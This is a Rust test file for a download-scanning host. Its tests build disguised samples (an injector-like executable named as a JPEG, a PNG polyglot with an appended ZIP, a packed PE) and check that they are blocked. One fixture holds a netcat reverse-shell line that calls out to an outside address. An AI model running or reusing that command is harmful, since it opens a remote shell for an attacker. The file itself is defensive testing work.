//! Samples of files that must not be released, taken through a session.
use aegis_host::config::{ChunkingConfig, Config, HostConfig, QuarantineConfig, RiskConfig};
use aegis_host::ipc::native_messaging::Outgoing;
use aegis_host::release::Released;
use aegis_host::scanner::entropy;
use aegis_host::scanner::entropy::Measurement;
use aegis_host::scanner::whole_file_scan;
use aegis_host::session;
use aegis_host::session::{Settlement, WholeFile};
use aegis_host::watcher::{
    DownloadWatcher, ReadOutcome, ReadStep, ScanStep, WatchAction, WatchClock, WatchEvent, WatchTarget,
};

/// Shannon entropy in bits per byte.
fn shannon(data: &[u8]) -> f32 {
    if data.is_empty() {
        return 0.0;
    }
    let counts = entropy::byte_counts(data);
    let len = data.len() as f32;
    let mut h = 0.0f32;
    for &c in counts.iter() {
        if c > 0 {
            let p = c as f32 / len;
            h -= p * p.log2();
        }
    }
    h
}

fn nanobits(h: f32) -> u64 {
    (f64::from(h) * 1e9).floor() as u64
}

fn measure(data: &[u8]) -> Measurement {
    Measurement {
        overall: nanobits(shannon(data)),
        windows: entropy::windows(data.len())
            .iter()
            .map(|w| nanobits(shannon(&data[w.0..w.1])))
            .collect(),
    }
}

fn config() -> Config {
    Config {
        host: HostConfig { log_level: "debug".to_string() },
        risk: RiskConfig { sandbox_threshold: 4_000, block_threshold: 8_500 },
        chunking: ChunkingConfig {
            chunk_size: 4096,
            ring_buffer_chunks: 4,
            per_chunk_timeout_secs: 2,
            total_transfer_timeout_secs: 10,
            max_download_bytes: 8_589_934_592,
            max_whole_file_scan_bytes: 67_108_864,
        },
        quarantine: QuarantineConfig {
            subdir: "aegis_quarantine".to_string(),
            keep_flagged_samples: false,
        },
    }
}

/// Scans whatever of `content` has not been scanned yet.
fn pass(w: &mut DownloadWatcher, content: &[u8], cfg: &Config) -> ScanStep {
    let before = w.bytes_scanned();
    loop {
        let n = w.next_read(content.len() as u64, cfg.chunking.chunk_size);
        if n == 0 {
            break;
        }
        let from = w.bytes_scanned() as usize;
        assert_eq!(w.after_read(ReadOutcome::Bytes(&content[from..from + n])), ReadStep::Continue);
    }
    ScanStep::Scanned { fresh: w.bytes_scanned() - before, length: content.len() as u64 }
}

/// Takes a complete download through a session and gives the answers.
fn watch(session_id: &str, original_filename: &str, content: &[u8]) -> Vec<Outgoing> {
    let cfg = config();
    let target = WatchTarget::new("/home/u/Downloads/aegis_quarantine/file.bin");
    let mut w = DownloadWatcher::new(target, original_filename);
    let mut clock = WatchClock { started: 0, last_growth: 0 };
    let step = pass(&mut w, content, &cfg);
    let mut action = w.after_pass(&cfg, &mut clock, &step, true, 0);
    if matches!(action, WatchAction::Sweep) {
        let last = pass(&mut w, content, &cfg);
        action = w.after_sweep(&cfg, &mut clock, &last, 0);
    }
    let event = match action {
        WatchAction::Finish(event) => event,
        other => panic!("a complete download is not waited on: {other:?}"),
    };
    let mut answers = Vec::new();
    match event {
        WatchEvent::EarlyBlock { risk_score, reason, findings } => {
            let (early, last) = session::early_block(session_id, risk_score, &reason, &findings);
            answers.push(early);
            answers.push(last);
        }
        WatchEvent::Completed(outcome) => {
            let whole = if session::wants_whole_file(&outcome, &cfg.chunking) {
                WholeFile::Scanned(whole_file_scan(content, original_filename, &measure(content)))
            } else {
                WholeFile::TooLarge
            };
            let result = session::assess(&outcome, &whole, &cfg.chunking);
            match session::settle(session_id, &result, &whole, &cfg) {
                Settlement::Refuse(_, message) | Settlement::Withhold(message) => {
                    answers.push(message)
                }
                Settlement::Deliver => {
                    let released = Released {
                        final_path: format!("/home/u/Downloads/{original_filename}"),
                        renamed: false,
                    };
                    answers.push(session::delivered(
                        session_id,
                        &result,
                        &outcome,
                        &whole,
                        &cfg.chunking,
                        &released,
                    ));
                }
            }
        }
    }
    answers
}

/// Status and verdict of the last answer.
fn last_verdict(answers: &[Outgoing]) -> (String, String) {
    match answers.last() {
        Some(Outgoing::Verdict { status, verdict, .. }) => (status.clone(), verdict.clone()),
        other => panic!("the last answer is {other:?}"),
    }
}

/// An executable that names the functions of an injector.
fn test_trojan() -> Vec<u8> {
    let mut v = b"MZ\x90\x00\x03\x00\x00\x00".to_vec();
    v.extend(std::iter::repeat_n(0u8, 256));
    v.extend(b"CreateRemoteThread VirtualAllocEx WriteProcessMemory");
    v.extend(std::iter::repeat_n(0u8, 256));
    v
}

/// A shell script.
fn script() -> Vec<u8> {
    b"#!/bin/sh\nnc -e /bin/sh 203.0.113.7 4444\n".to_vec()
}

/// A sound image with an archive behind its end.
fn polyglot_big() -> Vec<u8> {
    let mut v = b"\x89PNG\r\n\x1a\n".to_vec();
    v.extend(std::iter::repeat_n(0xAAu8, 2048));
    v.extend(b"IEND\xAE\x42\x60\x82");
    v.extend(b"PK\x03\x04");
    v.extend(std::iter::repeat_n(0x11u8, 500));
    v
}

/// A program with the sections of a packer: one that is writable and
/// executable, one without content, and an entry point outside both.
fn packed_like() -> Vec<u8> {
    let pe_off = 0x80usize;
    let opt_size = 0xE0usize;
    let table = pe_off + 4 + 20 + opt_size;
    let mut d = vec![0u8; table + 2 * 40 + 0x200];
    d[0..2].copy_from_slice(b"MZ");
    d[0x3C..0x40].copy_from_slice(&(pe_off as u32).to_le_bytes());
    d[pe_off..pe_off + 4].copy_from_slice(b"PE\0\0");
    d[pe_off + 6..pe_off + 8].copy_from_slice(&2u16.to_le_bytes());
    d[pe_off + 20..pe_off + 22].copy_from_slice(&(opt_size as u16).to_le_bytes());
    let opt = pe_off + 4 + 20;
    d[opt + 16..opt + 20].copy_from_slice(&0x9_9999u32.to_le_bytes());
    for (i, (name, vsize, vaddr, rsize)) in
        [("UPX0", 0x5000u32, 0x1000u32, 0u32), ("UPX1", 0x2000, 0x6000, 0x200)].iter().enumerate()
    {
        let o = table + i * 40;
        d[o..o + 4].copy_from_slice(name.as_bytes());
        d[o + 8..o + 12].copy_from_slice(&vsize.to_le_bytes());
        d[o + 12..o + 16].copy_from_slice(&vaddr.to_le_bytes());
        d[o + 16..o + 20].copy_from_slice(&rsize.to_le_bytes());
        d[o + 36..o + 40].copy_from_slice(&0xE000_0020u32.to_le_bytes());
    }
    d
}

fn verdict_for(content: &[u8], presented_as: &str) -> (String, String) {
    last_verdict(&watch("sample-test", presented_as, content))
}

#[test]
fn trojan_disguised_as_image_is_blocked() {
    let (status, verdict) = verdict_for(&test_trojan(), "holiday.jpg");
    assert_ne!(status, "COMPLETE", "an MZ executable named .jpg was RELEASED: {verdict}");
    assert!(
        verdict.to_lowercase().contains("mismatch")
            || verdict.to_lowercase().contains("exe")
            || verdict.to_lowercase().contains("injection"),
        "verdict should explain the type mismatch: {verdict}"
    );
}

#[test]
fn script_disguised_as_image_is_blocked() {
    let (status, verdict) = verdict_for(&script(), "diagram.png");
    assert_ne!(status, "COMPLETE", "a shell script named .png was RELEASED: {verdict}");
}

#[test]
fn polyglot_png_with_appended_archive_is_not_released() {
    let (status, verdict) = verdict_for(&polyglot_big(), "photo.png");
    assert_ne!(status, "COMPLETE", "a PNG with an appended ZIP payload was RELEASED: {verdict}");
    assert!(
        verdict.contains("appended") || verdict.contains("logical end") || verdict.contains("ZIP"),
        "verdict should name the appended payload: {verdict}"
    );
}

#[test]
fn packed_executable_is_flagged_by_pe_analysis() {
    let (status, verdict) = verdict_for(&packed_like(), "setup.exe");
    assert_ne!(status, "COMPLETE", "a packed executable was RELEASED: {verdict}");
    let v = verdict.to_lowercase();
    assert!(
        v.contains("upx")
            || v.contains("packer")
            || v.contains("writable and executable")
            || v.contains("outside every declared section"),
        "verdict should cite the PE structure findings: {verdict}"
    );
}
